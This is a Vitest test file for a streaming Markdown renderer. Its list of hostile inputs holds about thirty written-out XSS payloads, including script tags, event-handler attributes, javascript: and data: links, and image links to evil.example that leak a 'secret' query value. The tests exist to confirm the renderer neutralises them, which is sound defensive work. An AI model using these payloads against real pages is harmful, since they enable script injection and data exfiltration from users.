import { describe, expect, it } from 'vitest';

import { Markdown } from '../src/core/markdown';

function drawn(source: string, step = 1e9, finish = true): HTMLElement {
  const root = document.createElement('div');
  const markdown = new Markdown(root);
  for (let i = step; i < source.length; i += step) markdown.draw(source.slice(0, i), false);
  markdown.draw(source, finish);
  return root;
}

const DOCUMENT = `# Title

Some *text* with \`code\`, **bold** and my_var_name.
A second line.

1. one
2. two
   - nested

3. loose

| a | b |
|---|--:|
| 1 | 2 |

\`\`\`python
def f(x):
    return x < 1  # <b>

\`\`\`

~~~
plain
~~~

> quote
> more

Setext
------

- [x] done
- [ ] open

5. starts at five

[link](https://example.org) <https://example.org> ~~gone~~ [ref][r]

[r]: https://example.org/ref

    indented code

last`;

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'text <img src=x onerror=alert(1)> text',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>* { display: none }</style>',
  '<div id="x" class="y" style="position:fixed">x</div>',
  '<input type=text autofocus onfocus=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVa&#x09;ScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox)',
  '[x](//evil.example)',
  '[x](file:///etc/passwd)',
  '[x](#top "title\\" onclick=alert(1)")',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](http://evil.example/?q=secret)',
  '![x][i]\n\n[i]: http://evil.example/?q=secret',
  '![<img src=x onerror=alert(1)>](x)',
  '[![x](http://evil.example/a.png)](https://ok.example)',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '- [ ] <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)>'
];

describe('what a model writes runs nothing', () => {
  it.each(HOSTILE)('%j', source => {
    for (const step of [1, 2, 5, 13, 1e9]) {
      for (const finish of [false, true]) {
        const root = drawn(source, step, finish);
        expect(root.querySelector('script, iframe, object, embed, svg, math, style, form, img, video, audio, link, meta, base, textarea')).toBeNull();
        for (const element of root.querySelectorAll('*')) {
          for (const { name, value } of element.attributes) {
            expect(name).toMatch(/^(class|href|target|rel|align|type|checked|disabled|start|data-lm-suppress-shortcuts)$/);
            if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/i);
          }
        }
        for (const input of root.querySelectorAll('input')) expect(input.type === 'checkbox' && input.disabled).toBe(true);
      }
    }
  });
});

describe('streaming', () => {
  it.each([1, 2, 3, 7, 20, 100])('ends as the whole does, in pieces of %d', step => {
    expect(drawn(DOCUMENT, step).innerHTML).toBe(drawn(DOCUMENT).innerHTML);
  });

  it('leaves finished blocks alone', () => {
    const root = document.createElement('div');
    const markdown = new Markdown(root);
    markdown.draw('First.\n\nSecond.\n\nThird.\n\nFourth', false);
    const first = root.firstElementChild;
    markdown.draw('First.\n\nSecond.\n\nThird.\n\nFourth and more.\n\nFifth.\n', false);
    expect(root.firstElementChild).toBe(first);
    markdown.draw('First.\n\nSecond.\n\nThird.\n\nFourth and more.\n\nFifth.\n', true);
    expect(root.firstElementChild).toBe(first);
    expect(root.children).toHaveLength(5);
  });

  it('starts over where the text is another one', () => {
    const root = document.createElement('div');
    const markdown = new Markdown(root);
    markdown.draw('One.\n\nTwo.\n\nThree.\n\nFour.', false);
    markdown.draw('Other.', false);
    expect(root.textContent).toBe('Other.\n'.trim());
  });
});

describe('what it makes', () => {
  it('keeps the underscores of names', () => {
    expect(drawn('use my_var_name and other_name_x').querySelector('em')).toBeNull();
  });

  it('keeps columns and numbers', () => {
    const root = drawn(DOCUMENT);
    expect(root.querySelector('td[align=right]')!.textContent).toBe('2');
    expect(drawn('5. five').querySelector('ol')!.getAttribute('start')).toBe('5');
  });

  it('colours code when its block is complete', () => {
    const source = 'Look:\n\n```python\ndef f(): pass\n';
    expect(drawn(source, 1e9, false).querySelector('.nba-keyword')).toBeNull();
    const done = drawn(source + '```\n\nSo.', 1e9, false);
    expect(done.querySelector('.nba-keyword')!.textContent).toBe('def');
    expect(done.querySelector('pre')!.textContent).toBe('def f(): pass\n');
  });

  it('leaves code of unknown languages plain', () => {
    expect(drawn('```klingon\nqapla < x\n```').querySelector('code')!.innerHTML).toBe('qapla &lt; x\n');
  });

  it('opens links elsewhere, telling nothing', () => {
    const link = drawn('[x](https://example.org)').querySelector('a')!;
    expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer nofollow']);
  });

  it('shows raw HTML as text', () => {
    expect(drawn('a <b>c</b>').textContent!.trim()).toBe('a <b>c</b>');
    expect(drawn('<div>\nx\n</div>').querySelector('p')!.textContent).toContain('<div>');
  });
});
